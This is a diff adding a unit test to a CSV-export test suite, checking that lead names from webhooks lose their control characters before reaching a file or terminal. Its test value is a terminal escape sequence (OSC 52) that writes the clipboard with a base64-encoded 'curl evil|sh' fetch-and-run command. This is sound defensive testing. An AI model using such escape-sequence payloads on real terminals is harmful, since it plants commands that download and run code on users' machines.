@@ -50,3 +50,14 @@ def test_a_cell_cannot_smuggle_a_formula_past_a_semicolon_tab_or_line_break(name
     assert next(csv.reader(io.StringIO(text)))[1].replace("'", "") == name.replace(
         "'", ""
     )  # apostrophes added
+
+
+def test_control_characters_from_webhooks_never_reach_the_file_or_a_terminal() -> None:
+    """`leadscore leads export` writes to standard output by default: a name carrying an escape
+    sequence (here OSC 52, which writes the terminal user's clipboard) must not reach it."""
+    name = "Eve\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b31m\x00\x7fX"
+
+    text = write([[1, neutralized(name)]], header=False)
+
+    assert not [c for c in text if (ord(c) < 32 and c not in "\r\n") or 0x7F <= ord(c) <= 0x9F]
+    assert "Eve" in text and "X" in text
